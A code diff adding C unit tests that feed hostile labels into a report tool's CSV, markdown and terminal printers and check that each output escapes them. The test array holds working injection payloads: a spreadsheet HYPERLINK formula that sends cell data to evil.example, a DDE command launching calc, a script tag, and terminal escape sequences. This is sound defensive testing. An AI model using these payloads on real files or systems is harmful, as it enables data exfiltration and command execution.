@@ -119,3 +119,160 @@ Test(report, one_run_has_no_interval_and_table_shows_labels)
 	json_decref(rows);
 	json_decref(all);
 }
+
+/* ---- record strings in the printers (G14) ---- */
+
+/* Labels a hostile record file may carry (valid records: validate lets
+ * any string through): spreadsheet formulas, markdown table syntax and
+ * HTML, a line break, and terminal control sequences (clear screen, an
+ * OSC window title, colour, a C1 CSI). */
+static const char *const HOSTILE[] = {
+    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+    "\tTAB",
+    "\rCR",
+    "<script>alert(1)</script>",
+    "a|b|c\\|d",
+    "line1\nline2",
+    "evil\x1b[2J\x1b]0;pwned\x07\x1b[31mRED\xc2\x9b"
+    "31m",
+};
+#define N_HOSTILE (sizeof(HOSTILE) / sizeof(*HOSTILE))
+
+/* One row per hostile label (layers 1, 2, ... keep the rows apart). */
+static json_t *hostile_rows(void)
+{
+	json_t *all = json_array(), *rows;
+	for (size_t i = 0; i < N_HOSTILE; i++) {
+		json_t *r = rec("deq", 1, 100, 99, 101, 200, "healthy");
+		json_object_set_new(json_object_get(r, "config"), "layers",
+				    json_integer((json_int_t)i + 1));
+		json_object_set_new(r, "method",
+				    json_pack("{s:s}", "label", HOSTILE[i]));
+		json_array_append_new(all, r);
+	}
+	rows = report_rows(all);
+	json_decref(all);
+	cr_assert_eq(json_array_size(rows), N_HOSTILE);
+	return rows;
+}
+
+typedef void (*printer)(FILE *, const json_t *);
+
+static char *printed(printer p, const json_t *rows)
+{
+	char *buf = NULL;
+	size_t len = 0;
+	FILE *f = open_memstream(&buf, &len);
+	p(f, rows);
+	fclose(f);
+	return buf;
+}
+
+/* The fields of the CSV record at *p (RFC 4180: quoted fields may hold
+ * line breaks), unquoted, into out[n]; *p moves past its line break. How
+ * many fields. */
+static int csv_fields(const char **p, char out[][256], int n)
+{
+	const char *s = *p;
+	int k = 0;
+	while (k < n) {
+		size_t l = 0;
+		if (*s == '"') {
+			for (s++; *s && !(s[0] == '"' && s[1] != '"'); s++) {
+				s += *s == '"';
+				if (l < 255)
+					out[k][l++] = *s;
+			}
+			s += *s == '"';
+		} else
+			for (; *s && *s != ',' && *s != '\n'; s++)
+				if (l < 255)
+					out[k][l++] = *s;
+		out[k++][l] = 0;
+		if (*s != ',')
+			break;
+		s++;
+	}
+	*p = s + (*s == '\n');
+	return k;
+}
+
+/* G14: no CSV cell starts with =, +, -, @, tab or CR (a spreadsheet runs
+ * it as a formula): such text gets a leading ' (OWASP's rule). */
+Test(report, csv_cells_are_not_formulas)
+{
+	json_t *rows = hostile_rows();
+	char *t = printed(report_print_csv, rows), cells[40][256];
+	const char *l = t;
+	size_t found = 0, lines = 0;
+	csv_fields(&l, cells, 40); /* the header */
+	while (*l) {
+		int n = csv_fields(&l, cells, 40);
+		cr_assert_geq(n, 2, "%s", t);
+		cr_assert(!cells[1][0] || !strchr("=+-@\t\r", cells[1][0]),
+			  "cell %s", cells[1]);
+		for (size_t i = 0; i < N_HOSTILE; i++)
+			found += cells[1][0] == '\'' &&
+				 !strcmp(cells[1] + 1, HOSTILE[i]);
+		lines++;
+	}
+	cr_assert_eq(lines, N_HOSTILE, "%s", t);
+	cr_assert_eq(found, 6, "the six formula labels, quoted: %s", t);
+	free(t);
+	json_decref(rows);
+}
+
+/* G14: a markdown row keeps its columns (| escaped), its line (line breaks
+ * become spaces) and no HTML (< and > escaped). */
+Test(report, markdown_cells_are_escaped)
+{
+	json_t *rows = hostile_rows();
+	char *t = printed(report_print_md, rows), *l;
+	int lines = 0, header = -1;
+	for (l = t; *l; l = strchr(l, '\n') + 1) {
+		int bars = 0, esc = 0; /* a | after an odd run of \ is text */
+		for (const char *c = l; *c && *c != '\n'; c++) {
+			bars += *c == '|' && !esc;
+			esc = *c == '\\' && !esc;
+		}
+		if (header < 0)
+			header = bars;
+		cr_assert_eq(bars, header, "line %d: %.*s", lines,
+			     (int)strcspn(l, "\n"), l);
+		lines++;
+	}
+	cr_assert_eq(lines, 2 + (int)N_HOSTILE, "%s", t);
+	cr_assert_null(strchr(t, '<'), "%s", t);
+	cr_assert_null(strchr(t, '\r'), "%s", t);
+	cr_assert(strstr(t, "| &lt;script&gt;alert(1)&lt;/script&gt; |"), "%s",
+		  t);
+	cr_assert(strstr(t, "| a\\|b\\|c\\\\\\|d |"), "%s", t);
+	cr_assert(strstr(t, "| line1 line2 |"), "%s", t);
+	free(t);
+	json_decref(rows);
+}
+
+/* 1 when s holds a control character: C0 (but the line feed), DEL, or
+ * C1 (U+0080..U+009F, UTF-8 C2 80..C2 9F). */
+static int has_control(const char *s)
+{
+	for (const unsigned char *c = (const unsigned char *)s; *c; c++)
+		if ((*c < 0x20 && *c != '\n') || *c == 0x7f ||
+		    (c[0] == 0xc2 && c[1] >= 0x80 && c[1] <= 0x9f))
+			return 1;
+	return 0;
+}
+
+/* G14: the terminal table writes no control character of a record (an
+ * escape sequence would clear the screen or retitle the window). */
+Test(report, terminal_table_has_no_control_characters)
+{
+	json_t *rows = hostile_rows();
+	char *t = printed(report_print_term, rows);
+	cr_assert_not(has_control(t), "%s", t);
+	free(t);
+	json_decref(rows);
+}
